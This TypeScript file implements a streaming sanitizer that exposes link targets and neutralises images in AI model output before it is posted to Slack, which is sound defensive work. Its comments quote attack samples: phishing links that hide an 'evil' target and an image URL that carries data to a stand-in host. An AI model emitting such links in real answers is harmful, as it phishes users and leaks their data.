/**
 * Why this file exists: model output is untrusted, and a link whose label hides its target
 * (`[Re-authenticate](https://evil…)`, `<https://evil|click>`) is a phishing channel, while an image
 * (`![x](https://evil/?d=…)`) is fetched by whoever renders it and can carry data out in its URL. Every
 * answer goes through this before it reaches Slack: a link shows its real URL (`label (https://…)`), an
 * image becomes text with its URL in inline code (never fetched, never shown), and what still looks like
 * a link target or a reference definition (`](`, `]:`) is broken so no renderer can make it one.
 *
 * Like MentionSafeStream it runs on a stream: it holds back only a construct that is not complete yet
 * (each part is bounded, so at most a few thousand characters; its parser resumes where it stopped, so
 * tiny chunks cost no more than one), and joining every `push` and the
 * `flush` equals `exposeLinks(all input)` however the text was chunked. Fenced code blocks are copied
 * untouched (nothing is a link there); a fence is recognised only when it is certainly one, so a doubt
 * always falls on the side of exposing.
 */

const ZWSP = '\u200B';
const LABEL_MAX = 500;
const DEST_MAX = 2_000;
const TITLE_MAX = 500;
const ANGLE_MAX = DEST_MAX + LABEL_MAX + 1;
const FENCE_LINE_MAX = 1_000;
const SPECIAL = /[[\]!<\n]/g;

type Parsed<T> = T | 'none' | 'more';
interface InlineLink {
  end: number;
  label: string;
  dest: string;
}
interface PendingParse {
  make: (src: Source) => Parser<unknown>;
  offset: number;
  src: Source;
  parser: Parser<unknown>;
}
interface Fence {
  char: string;
  length: number;
}

export class LinkSafeStream {
  private buffer = '';
  private fence: Fence | undefined;
  private lineStart = true;
  /** The parser of the unfinished construct the buffer starts with, resumed when more text arrives. */
  private pending: PendingParse | undefined;
  private readonly work = { chars: 0 };

  /** Characters the link parsers have examined so far: lets a test check the work stays linear. */
  get charsParsed(): number {
    return this.work.chars;
  }

  /** Adds a chunk of untrusted Markdown; returns the text that is safe to show now (maybe ''). */
  push(delta: string): string {
    if (delta === '') return '';
    this.buffer += delta;
    return this.release(false);
  }

  /** Returns everything still held back, made safe. The stream can be reused afterwards. */
  flush(): string {
    const out = this.release(true);
    this.pending = undefined;
    this.fence = undefined;
    this.lineStart = true;
    return out;
  }

  private release(final: boolean): string {
    const { out, consumed } = this.scan(this.buffer, final);
    this.buffer = this.buffer.slice(consumed);
    return out;
  }

  /** Decides as much of `text` as it can; state (fence, line start) advances with what is consumed. */
  private scan(text: string, final: boolean): { out: string; consumed: number } {
    const parts: string[] = [];
    let copied = 0;
    let i = 0;
    const n = text.length;
    const stop = (at: number) => {
      parts.push(text.slice(copied, at));
      return { out: parts.join(''), consumed: at };
    };
    const emit = (from: number, to: number, replacement: string) => {
      parts.push(text.slice(copied, from), replacement);
      copied = to;
    };
    while (i < n) {
      if (this.lineStart) {
        const line = this.fenceLine(text, i, final);
        if (line === 'more') return stop(i);
        this.lineStart = false;
        if (line !== 'none') {
          this.fence = line.fence;
          i = line.end;
          this.lineStart = i > 0 && text[i - 1] === '\n';
          continue;
        }
      }
      if (this.fence) {
        const newline = text.indexOf('\n', i);
        if (newline < 0) {
          i = n;
        } else {
          i = newline + 1;
          this.lineStart = true;
        }
        continue;
      }
      SPECIAL.lastIndex = i;
      const found = SPECIAL.exec(text);
      if (!found) {
        i = n;
        break;
      }
      const at = found.index;
      const ch = text[at];
      if (ch === '\n') {
        i = at + 1;
        this.lineStart = true;
        continue;
      }
      if (ch === '<') {
        const angle = this.parse(text, at, 0, final, parseAngle);
        if (angle === 'more') return stop(at);
        if (angle !== 'none') {
          emit(at, at + angle.end, angle.text);
          i = at + angle.end;
          continue;
        }
        // A `<` whose token we could not read whole (too long, broken by a newline, nested): break it
        // whatever token follows, so Slack cannot read a link (`<!date^…|x>`, `<https://…|x>`) there
        // either. A `<` before a space or the end starts no token (`tolerate < 0.1 %`): left as it is.
        const next = text[at + 1];
        if (next !== undefined && !/\s/.test(next)) emit(at, at + 1, `<${ZWSP}`);
        i = at + 1;
        continue;
      }
      if (at + 1 >= n && !final) return stop(at);
      const next = text[at + 1];
      if (ch === ']') {
        // Whatever `[` this closes, `] (` is not a link target and `]\u200B:` is not a definition.
        if (next === '(') emit(at, at + 1, '] ');
        else if (next === ':') emit(at, at + 1, `]${ZWSP}`);
        i = at + 1;
        continue;
      }
      const image = ch === '!';
      if (image && next !== '[') {
        i = at + 1;
        continue;
      }
      const offset = image ? 1 : 0;
      const link = this.parse(text, at, offset, final, parseInlineLink);
      if (link === 'more') return stop(at);
      if (link !== 'none') {
        const end = at + offset + link.end;
        emit(at, end, image ? imageText(link) : linkText(link.label, link.dest));
        i = end;
        continue;
      }
      i = at + 1;
    }
    return stop(n);
  }

  /**
   * Parses the construct at `at` (its parser starts `offset` after it), or resumes the one this stream
   * stopped at last time, which now starts the buffer: 'more' while it needs text that has not arrived.
   */
  private parse<T>(
    text: string,
    at: number,
    offset: number,
    final: boolean,
    make: (src: Source) => Parser<T>,
  ): Parsed<T> {
    let job = this.pending;
    this.pending = undefined;
    if (!job || at !== 0 || job.make !== make || job.offset !== offset) {
      const src = new Source(this.work);
      job = { make, offset, src, parser: make(src) };
    }
    job.src.text = text;
    job.src.start = at + offset;
    job.src.final = final;
    const step = job.parser.next();
    if (step.done) return step.value as T | 'none';
    this.pending = job;
    return 'more';
  }

  /** At a line start: a fence line (opening or closing) and where it ends, 'none', or 'more'. */
  private fenceLine(
    text: string,
    i: number,
    final: boolean,
  ): Parsed<{ end: number; fence: Fence | undefined }> {
    let j = i;
    while (j < text.length && j - i < 3 && text[j] === ' ') j += 1;
    const char = text[j];
    if (j >= text.length) return final ? 'none' : 'more';
    if (char !== '`' && char !== '~') return 'none';
    if (this.fence && char !== this.fence.char) return 'none';
    let k = j;
    while (k < text.length && text[k] === char) k += 1;
    if (k >= text.length && !final) return 'more';
    const length = k - j;
    if (length < 3 || (this.fence && length < this.fence.length)) return 'none';
    const newline = text.indexOf('\n', k);
    const lineEnd = newline < 0 ? text.length : newline;
    const rest = text.slice(k, Math.min(lineEnd, k + FENCE_LINE_MAX + 1));
    if (this.fence) {
      // A closing fence has nothing but spaces after its run.
      if (!/^[ \t]*$/.test(rest)) return 'none';
      if (newline < 0 && !final) return 'more';
      return { end: newline < 0 ? text.length : newline + 1, fence: undefined };
    }
    // An opening backtick fence has no backtick in its info string (else it is inline code).
    if (char === '`' && rest.includes('`')) return 'none';
    if (rest.length > FENCE_LINE_MAX) return 'none';
    if (newline < 0 && !final) return 'more';
    return { end: newline < 0 ? text.length : newline + 1, fence: { char, length } };
  }
}

/**
 * The text a parser reads, counted from the start of its construct. It grows between pushes: a parser
 * that reaches its end waits (yields) and resumes where it stopped, so an unfinished link is never read
 * again from its start (which made tiny stream chunks quadratic).
 */
class Source {
  text = '';
  start = 0;
  final = false;
  constructor(private readonly work: { chars: number }) {}

  get length(): number {
    return this.text.length - this.start;
  }

  char(k: number): string | undefined {
    this.work.chars += 1;
    return this.text[this.start + k];
  }

  slice(from: number, to: number): string {
    return this.text.slice(this.start + from, this.start + to);
  }
}

/** Yields while the construct needs more text; returns its result, or 'none' (also when the text ended). */
type Parser<T> = Generator<undefined, T | 'none', undefined>;

/** Waits until position `k` exists: true, or false once the text has ended without it. Callers test
 * `k >= src.length` first, so the common case creates no generator. */
function* reach(src: Source, k: number): Generator<undefined, boolean, undefined> {
  while (k >= src.length) {
    if (src.final) return false;
    yield;
  }
  return true;
}

/** `[label](dest "title")` starting at 0 (the `[`), each part bounded. */
function* parseInlineLink(src: Source): Parser<InlineLink> {
  let j = 1;
  for (;;) {
    if (j >= src.length && !(yield* reach(src, j))) return 'none';
    const c = src.char(j);
    if (c === ']') break;
    if (c === '[' || c === '\n' || j > LABEL_MAX) return 'none';
    j += 1;
  }
  if (j + 1 >= src.length && !(yield* reach(src, j + 1))) return 'none';
  const label = src.slice(1, j);
  if (src.char(j + 1) !== '(') return 'none';
  j = yield* skipSpaces(src, j + 2);
  if (j >= src.length && !(yield* reach(src, j))) return 'none';
  const destStart = j;
  let dest: string;
  if (src.char(j) === '<') {
    j += 1;
    for (;;) {
      if (j >= src.length && !(yield* reach(src, j))) return 'none';
      const c = src.char(j);
      if (c === '>') break;
      if (c === '<' || c === '\n' || j - destStart > DEST_MAX) return 'none';
      j += 1;
    }
    dest = src.slice(destStart + 1, j);
    j += 1;
  } else {
    let depth = 0;
    for (;;) {
      if (j >= src.length && !(yield* reach(src, j))) return 'none';
      const c = src.char(j);
      if (c === ' ' || c === '\t' || c === '\n' || (c === ')' && depth === 0)) break;
      if (c === '(') depth += 1;
      if (c === ')') depth -= 1;
      if (j - destStart > DEST_MAX || depth > 32) return 'none';
      j += 1;
    }
    dest = src.slice(destStart, j);
  }
  j = yield* skipSpaces(src, j);
  if (j >= src.length && !(yield* reach(src, j))) return 'none';
  const quote = src.char(j);
  if (quote === '"' || quote === "'" || quote === '(') {
    const close = quote === '(' ? ')' : quote;
    const titleStart = j;
    j += 1;
    for (;;) {
      if (j >= src.length && !(yield* reach(src, j))) return 'none';
      if (src.char(j) === close) break;
      if (j - titleStart > TITLE_MAX) return 'none';
      j += 1;
    }
    j = yield* skipSpaces(src, j + 1);
    if (j >= src.length && !(yield* reach(src, j))) return 'none';
  }
  if (src.char(j) !== ')') return 'none';
  return { end: j + 1, label, dest };
}

/** Up to 20 spaces, tabs and at most one newline, as Markdown allows around a link destination. */
function* skipSpaces(src: Source, j: number): Generator<undefined, number, undefined> {
  let newlines = 0;
  const start = j;
  while (j - start < 20) {
    if (j >= src.length && !(yield* reach(src, j))) return j;
    const c = src.char(j);
    if (c === '\n') newlines += 1;
    if (c !== ' ' && c !== '\t' && !(c === '\n' && newlines === 1)) break;
    j += 1;
  }
  return j;
}

/**
 * A Slack angle token at 0: `<https://x|label>` (and `<!date^…^https://x|label>`) become visible; a
 * mention, channel or plain `<https://x>` is kept as it is (mentions are neutralised later).
 */
function* parseAngle(src: Source): Parser<{ end: number; text: string }> {
  let j = 1;
  for (;;) {
    if (j >= src.length && !(yield* reach(src, j))) return 'none';
    const c = src.char(j);
    if (c === '>') break;
    if (c === '<' || c === '\n' || j > ANGLE_MAX) return 'none';
    j += 1;
  }
  const inner = src.slice(1, j);
  const whole = src.slice(0, j + 1);
  // Brackets inside are scanned like any text (a `](` there is broken); an URL-like `<` is broken below.
  if (inner.includes('[') || inner.includes(']')) return 'none';
  const bar = inner.indexOf('|');
  const target = bar < 0 ? inner : inner.slice(0, bar);
  const label = bar < 0 ? '' : inner.slice(bar + 1);
  // A date links its text to its optional 4th part, with or without a `|fallback`.
  if (target.startsWith('!date^')) {
    const link = target.split('^')[3];
    if (link) return { end: j + 1, text: linkText(label, link) };
    return bar < 0 ? { end: j + 1, text: whole } : 'none';
  }
  // `<https://x>`, `<@U1>`, `<#C1>`: the target is what shows; left as it is.
  if (bar < 0) return { end: j + 1, text: whole };
  if (/^[@#!]/.test(target)) return { end: j + 1, text: whole };
  return { end: j + 1, text: linkText(label, target) };
}

/**
 * `label (url)`, or just the URL when the label adds nothing. What we write must not itself form a
 * link target with the text around it: `](` and `]:` are broken, brackets in the URL percent-encoded
 * (the same address), and a leading `(` or `:` is spaced off a `]` that may come before it.
 */
function linkText(label: string, url: string): string {
  const shown = defuse(label.trim());
  const target = encodeAngles(url.trim()).replace(/\[/g, '%5B').replace(/\]/g, '%5D');
  const bare = target.replace(/^[a-z][a-z0-9+.-]*:(?:\/\/)?/i, '');
  const out = shown === '' || shown === target || shown === bare ? target : `${shown} (${target})`;
  return /^[(:]/.test(out) ? ` ${out}` : out;
}

/** An image is never shown: its alt text, and its URL in inline code (no link, nothing fetched). */
function imageText(link: InlineLink): string {
  const alt = defuse(link.label.trim());
  const url = encodeAngles(link.dest.trim()).replace(/`/g, '%60');
  return `image not shown: ${alt === '' ? '' : `${alt} `}(\`${url}\`)`;
}

/**
 * A label or alt text we write: `](` and `]:` broken, and every `<` broken like a stray one in the scan, so a
 * Slack token inside it (`[<https://evil|Login>](https://good)`) cannot become a live link. A `>` alone
 * cannot: every `<` before it was already read whole or broken.
 */
function defuse(text: string): string {
  return text
    .replace(/\](?=[(:])/g, (_, offset: number) => (text[offset + 1] === '(' ? '] ' : `]${ZWSP}`))
    .replace(/</g, `<${ZWSP}`);
}

/** `<` and `>` in a URL we write, percent-encoded (the same address), so no Slack token hides in it. */
function encodeAngles(url: string): string {
  return url.replace(/</g, '%3C').replace(/>/g, '%3E');
}

/** Every link in `text` shows its target, images are never shown; see LinkSafeStream. */
export function exposeLinks(text: string): string {
  const stream = new LinkSafeStream();
  return stream.push(text) + stream.flush();
}
